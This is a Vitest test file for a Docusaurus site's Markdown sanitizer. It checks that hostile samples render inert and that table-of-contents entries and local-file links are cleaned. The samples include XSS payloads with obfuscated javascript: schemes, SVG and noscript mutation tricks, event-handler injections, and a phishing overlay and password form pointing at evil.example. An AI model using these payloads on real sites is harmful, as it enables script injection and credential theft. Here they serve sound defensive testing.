// Markdown that slipped past `kb validate` still reaches the page harmless. The hostile
// samples go through the same steps as Docusaurus' CommonMark pipeline (remark-parse,
// GFM, remark-rehype with raw HTML kept, rehype-raw) and then the site's own rehype
// plugins, imported from the module docusaurus.config.ts uses. The last block runs
// Docusaurus' own Markdown processor to check heading anchors, the table of contents and
// links to local files.
import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { createRequire } from "node:module";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Element, Root } from "hast";
import { toHtml } from "hast-util-to-html";
import { run } from "@mdx-js/mdx";
import { createElement } from "react";
import * as runtime from "react/jsx-runtime";
import { renderToStaticMarkup } from "react-dom/server";
import rehypeRaw from "rehype-raw";
import remarkGfm from "remark-gfm";
import remarkParse from "remark-parse";
import remarkRehype from "remark-rehype";
import { unified } from "unified";
import { describe, expect, it } from "vitest";
import { rehypePlugins, sanitizeSchema, sanitizeTocHtml } from "../src/plugins/sanitize/index";

const processor = unified()
  .use(remarkParse)
  .use(remarkGfm)
  .use(remarkRehype, { allowDangerousHtml: true })
  .use(rehypeRaw)
  .use(rehypePlugins);

function renderMarkdown(markdown: string): { tree: Root; html: string; elements: Element[] } {
  const tree = processor.runSync(processor.parse(markdown)) as Root;
  const elements: Element[] = [];
  const walk = (node: Root | Element) => {
    for (const child of node.children) {
      if (child.type === "element") {
        elements.push(child);
        walk(child);
      }
    }
  };
  walk(tree);
  return { tree, html: toHtml(tree), elements };
}

/** A URL's scheme as a browser reads it: control characters and white space inside are ignored. */
const schemeOf = (url: string) => /^([^:/?#]+):/.exec(url.replace(/[\u0000-\u0020\u007f-\u009f]+/g, ""))?.[1]?.toLowerCase();

const allowedTags = new Set(sanitizeSchema.tagNames);

const hostile: [string, string][] = [
  ["script", "<script>window.pwned = 1; alert(1)</script>"],
  ["script in a paragraph", "Text <script>alert(1)</script> mer text."],
  ["iframe", '<iframe src="https://evil.example/" width="100%" height="2000"></iframe>'],
  [
    "full-page fixed overlay with a login link",
    '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:#fff"><a href="https://evil.example/login" style="display:block;width:100%;height:100%">Logga in igen</a></div>',
  ],
  ["style on a Markdown-looking paragraph", '<p style="position:fixed;inset:0">Logga in igen</p>'],
  ["style element", "<style>body { display: none } a { position: fixed; inset: 0 }</style>"],
  ["SVG animate", '<svg><a><animate attributeName="href" values="javascript:alert(1)" /><text x="20" y="20">Klicka</text></a></svg>'],
  [
    "SVG set",
    '<svg width="100%" height="100%"><a><set attributeName="href" to="javascript:alert(1)" /><rect width="100%" height="100%" /></a></svg>',
  ],
  ["SVG onload", '<svg onload="alert(1)"><circle r="40" /></svg>'],
  ["MathML link", '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>'],
  ["img onerror", '<img src="x" onerror="alert(1)">'],
  [
    "on* handlers on allowed tags",
    '<p onclick="alert(1)" onmouseover="alert(2)">Text</p> <a href="/praktik/x" onfocus="alert(3)" autofocus>länk</a>',
  ],
  ["details ontoggle", '<details open ontoggle="alert(1)"><summary>Mer</summary>Text</details>'],
  ["javascript: href", '<a href="javascript:alert(1)">a</a>'],
  ["javascript: with a tab in the scheme", '<a href="java&#x09;script:alert(1)">a</a>'],
  ["javascript: with a newline in the scheme", '<a href="java&#x0A;script:alert(1)">a</a>'],
  ["javascript: after a control character", '<a href="&#x01;javascript:alert(1)">a</a>'],
  ["javascript: with leading white space", '<a href="  JaVaScRiPt:alert(1)">a</a>'],
  ["javascript: with an encoded colon", '<a href="javascript&colon;alert(1)">a</a>'],
  ["vbscript: href", '<a href="vbscript:msgbox(1)">a</a>'],
  ["data: href", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>'],
  ["Markdown javascript: link", "[klicka](javascript:alert(1))"],
  ["Markdown javascript: link with an entity tab", "[klicka](java&#9;script:alert(1))"],
  ["Markdown data: link", "[klicka](data:text/html,<script>alert(1)</script>)"],
  ["Markdown javascript: reference link", "[klicka][x]\n\n[x]: javascript:alert(1)"],
  [
    "form, input and button",
    '<form action="https://evil.example/steal" method="post"><input name="password" type="password" placeholder="Lösenord"><button formaction="javascript:alert(1)">Logga in igen</button></form>',
  ],
  ["task-list checkbox turned into a text field", '- <input type="text" name="pnr" value="" autofocus onfocus="alert(1)"> Fyll i'],
  ["meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ["base", '<base href="https://evil.example/">'],
  ["link stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ["object", '<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"></object>'],
  ["embed", '<embed src="https://evil.example/x.svg">'],
  ["template", "<template><script>alert(1)</script></template>"],
  ["noscript mutation", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ["id clobbering", '<h2 id="__docusaurus">Rubrik</h2> <a name="config" id="config">x</a> <form name="getElementById"></form>'],
  ["HTML comment", "<!-- dold text för granskaren -->Synligt"],
];

describe("hostile HTML in Markdown", () => {
  it.each(hostile)("%s reaches the page inert", (_name, markdown) => {
    const { html, elements } = renderMarkdown(`Före.\n\n${markdown}\n\nEfter.`);
    for (const element of elements) {
      expect(allowedTags.has(element.tagName), `<${element.tagName}> in ${html}`).toBe(true);
      for (const [name, value] of Object.entries(element.properties)) {
        expect(name, html).not.toMatch(/^on|^style$|^name$|^formAction$|^action$|^src$/i);
        if (name === "href") expect(["http", "https", "mailto", undefined]).toContain(schemeOf(String(value)));
        if (name === "id") expect(String(value)).not.toMatch(/^__/);
      }
      if (element.tagName === "input") expect(element.properties).toEqual({ type: "checkbox", disabled: true });
    }
    expect(html).not.toMatch(/alert\(|javascript|<script|<style|<svg|<iframe|<form|<meta|<base|<object|<embed|style=|<!--/i);
    // The surrounding Markdown is untouched.
    expect(html.startsWith("<p>Före.</p>")).toBe(true);
    expect(html.endsWith("<p>Efter.</p>")).toBe(true);
  });

  it("keeps the words of a refused overlay as plain text, and its link as an ordinary external link", () => {
    const { html } = renderMarkdown(hostile[3]![1]);
    expect(html).toBe('<a href="https://evil.example/login" rel="noopener noreferrer">Logga in igen</a>');
  });
});

describe("ordinary Markdown", () => {
  it("comes through intact, with external links marked noopener noreferrer", () => {
    const markdown = [
      "## Så går det till",
      "",
      "Ett stycke med *kursiv*, **fet**, ~~struken~~ och `kod` text.  ",
      "Ny rad efter hårt radbryt.",
      "",
      "### Steg för steg",
      "",
      "1. Först",
      '2. Sedan [Länsstyrelsen](https://www.lansstyrelsen.se/sodermanland "Länsstyrelsen i Södermanland")',
      "",
      "3. Till sist",
      "",
      "- [x] klart",
      "- [ ] kvar",
      "",
      "> Ett citat med [ett exempel](/praktik/flen-sprakvanner).",
      "",
      "| Kommun | Antal |",
      "|:--|--:|",
      "| Flen | 12 |",
      "",
      "```sh",
      "kb validate",
      "```",
      "",
      "---",
      "",
      "Skriv till <integration@flen.se> eller [mejla](mailto:integration@flen.se) och se https://www.flen.se.",
    ].join("\n");
    expect(renderMarkdown(markdown).html).toBe(
      [
        "<h2>Så går det till</h2>",
        "<p>Ett stycke med <em>kursiv</em>, <strong>fet</strong>, <del>struken</del> och <code>kod</code> text.<br>",
        "Ny rad efter hårt radbryt.</p>",
        "<h3>Steg för steg</h3>",
        "<ol>",
        "<li>",
        "<p>Först</p>",
        "</li>",
        "<li>",
        '<p>Sedan <a href="https://www.lansstyrelsen.se/sodermanland" title="Länsstyrelsen i Södermanland" rel="noopener noreferrer">Länsstyrelsen</a></p>',
        "</li>",
        "<li>",
        "<p>Till sist</p>",
        "</li>",
        "</ol>",
        '<ul class="contains-task-list">',
        '<li class="task-list-item"><input type="checkbox" checked disabled> klart</li>',
        '<li class="task-list-item"><input type="checkbox" disabled> kvar</li>',
        "</ul>",
        "<blockquote>",
        '<p>Ett citat med <a href="/praktik/flen-sprakvanner">ett exempel</a>.</p>',
        "</blockquote>",
        "<table>",
        "<thead>",
        "<tr>",
        '<th align="left">Kommun</th>',
        '<th align="right">Antal</th>',
        "</tr>",
        "</thead>",
        "<tbody>",
        "<tr>",
        '<td align="left">Flen</td>',
        '<td align="right">12</td>',
        "</tr>",
        "</tbody>",
        "</table>",
        '<pre><code class="language-sh">kb validate',
        "</code></pre>",
        "<hr>",
        '<p>Skriv till <a href="mailto:integration@flen.se">integration@flen.se</a> eller <a href="mailto:integration@flen.se">mejla</a> och se <a href="https://www.flen.se" rel="noopener noreferrer">https://www.flen.se</a>.</p>',
      ].join("\n"),
    );
  });

  it("keeps an ordered list's start number", () => {
    expect(renderMarkdown("3. tre\n4. fyra").html).toBe('<ol start="3">\n<li>tre</li>\n<li>fyra</li>\n</ol>');
  });
});

describe("table-of-contents entries", () => {
  it("keep inline formatting and lose everything else", () => {
    expect(sanitizeTocHtml("Hej <em>du</em> och <code>kod</code>")).toBe("Hej <em>du</em> och <code>kod</code>");
    expect(sanitizeTocHtml('Rubrik <img src=x onerror="alert(1)"><a href="javascript:alert(1)">länk</a><script>alert(2)</script>')).toBe(
      "Rubrik länk",
    );
  });
});

// Docusaurus' own Markdown processor for format "md", with the site's rehype plugins:
// what a practice page's MDX module exports and renders.
describe("Docusaurus' Markdown processor with the site's plugins", () => {
  const siteDir = join(import.meta.dirname, "..");
  const practicePath = join(siteDir, "../../content/practices/sodermanlands-lan/exempel.md");
  const require = createRequire(import.meta.url);
  const { createProcessorUncached } = require("@docusaurus/mdx-loader/lib/processor.js") as {
    createProcessorUncached: (parameters: { format: "md"; options: Record<string, unknown> }) => Promise<{
      process: (input: { content: string; filePath: string; frontMatter: object; compilerName: "server" }) => Promise<{ content: string }>;
    }>;
  };
  const { DEFAULT_MARKDOWN_CONFIG } = require("@docusaurus/core/lib/server/configValidation.js") as { DEFAULT_MARKDOWN_CONFIG: object };

  async function compile(markdown: string, plugins: unknown[] = rehypePlugins, filePath = practicePath) {
    const docusaurus = await createProcessorUncached({
      format: "md",
      options: {
        markdownConfig: { ...DEFAULT_MARKDOWN_CONFIG, format: "md" },
        rehypePlugins: plugins,
        remarkPlugins: [],
        staticDirs: [join(siteDir, "static")],
        siteDir,
        admonitions: true,
        // Compiled as a function body so the test can run it without a bundler.
        outputFormat: "function-body",
      },
    });
    const { content } = await docusaurus.process({ content: markdown, filePath, frontMatter: {}, compilerName: "server" });
    const module = (await run(content, { ...runtime, useMDXComponents: () => ({}), baseUrl: import.meta.url })) as unknown as {
      default: () => null;
      toc: { value: string; id: string; level: number }[];
    };
    // Rendered on request: without the site's plugins the module calls require(), which only a bundler provides.
    return { code: content, toc: module.toc, render: () => renderToStaticMarkup(createElement(module.default)) };
  }

  it("keeps heading anchors and the table of contents", async () => {
    const { render, toc } = await compile("## Vad är det?\n\nText.\n\n## Så *gick* det `till`\n\n### Detaljer {#detaljer}\n\nMer.");
    expect(render()).toBe(
      '<h2 id="vad-är-det">Vad är det?</h2>\n<p>Text.</p>\n<h2 id="så-gick-det-till">Så <em>gick</em> det <code>till</code></h2>\n<h3 id="detaljer">Detaljer</h3>\n<p>Mer.</p>',
    );
    expect(toc).toEqual([
      { value: "Vad är det?", id: "vad-är-det", level: 2 },
      { value: "Så <em>gick</em> det <code>till</code>", id: "så-gick-det-till", level: 2 },
      { value: "Detaljer", id: "detaljer", level: 3 },
    ]);
  });

  it("keeps HTML out of the table of contents, which the theme renders with innerHTML", async () => {
    const markdown = '## Hej <img src="x" onerror="alert(1)"> du\n\n## Ny <script>alert(2)</script>rubrik';
    // Without the site's plugins the handler reaches the table of contents.
    expect((await compile(markdown, [])).toc[0]!.value).toContain("onerror");
    const { render, toc } = await compile(markdown);
    expect(toc.map((entry) => entry.value)).toEqual(["Hej  du", "Ny rubrik"]);
    expect(render()).not.toMatch(/<img|<script|onerror/);
  });

  it("drops headings' ids that would take Docusaurus' own, and their table-of-contents entries", async () => {
    const { render, toc } = await compile("## Vanlig\n\n## Kapad {#__docusaurus}");
    expect(render()).toBe('<h2 id="vanlig">Vanlig</h2>\n<h2>Kapad</h2>');
    expect(toc.map((entry) => entry.id)).toEqual(["vanlig"]);
  });

  it("publishes no file from outside content/: links and images to local files become plain text", async () => {
    // A practice in its county folder, with a secret file and an image outside content/.
    const root = await mkdtemp(join(tmpdir(), "kb-sanitize-"));
    await mkdir(join(root, "content/practices"), { recursive: true });
    await writeFile(join(root, "hemlig.txt"), "HEMLIGT INNEHÅLL");
    await writeFile(join(root, "bild.svg"), '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>');
    const filePath = join(root, "content/practices/sodermanlands-lan/exempel.md");
    const markdown = "Se [filen](../../../hemlig.txt), [paketet](@site/package.json) och ![bild](../../../bild.svg).";
    try {
      // Without the site's plugins Docusaurus would bundle the files into the site.
      const unprotected = (await compile(markdown, [], filePath)).code;
      expect(unprotected).toMatch(/require\(".*hemlig\.txt/);
      expect(unprotected).toMatch(/require\(".*bild\.svg/);
      const { code, render } = await compile(markdown, rehypePlugins, filePath);
      expect(code).not.toMatch(/require|hemlig|package\.json|bild/);
      expect(render()).toBe("<p>Se filen, paketet och .</p>");
    } finally {
      await rm(root, { recursive: true, force: true });
    }
  });
});
